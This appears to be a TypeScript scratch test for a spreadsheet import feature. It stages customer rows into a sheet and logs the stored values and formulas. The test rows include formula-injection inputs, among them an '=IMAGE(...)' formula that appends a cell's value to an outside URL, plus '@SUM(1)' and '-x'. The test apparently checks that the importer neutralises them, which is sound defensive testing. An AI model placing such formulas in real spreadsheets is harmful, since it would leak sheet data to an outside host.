import { tableBundle, values } from "../table/harness";
it("scratch", () => {
  const b = tableBundle("en");
  const req = { sheet: "Customers", headers: ["CustomerID", "CustomerName", "Notes"], dedupe: "add" };
  const id = b.ctx.importStage(
    null,
    req,
    [
      ["C9", '=IMAGE("https://e/x?"&E2)', "@SUM(1)"],
      ["C10", "plain", "-x"],
    ],
    [2, 3],
  );
  console.log(JSON.stringify(b.ctx.importCommit(id, req)));
  const s = b.emulator.spreadsheet.getSheetByName("Customers")!;
  console.log(JSON.stringify(values(b, "Customers").slice(0, 3)));
  console.log(JSON.stringify(s.getRange(1, 1, 3, s.getLastColumn()).getFormulas()));
});
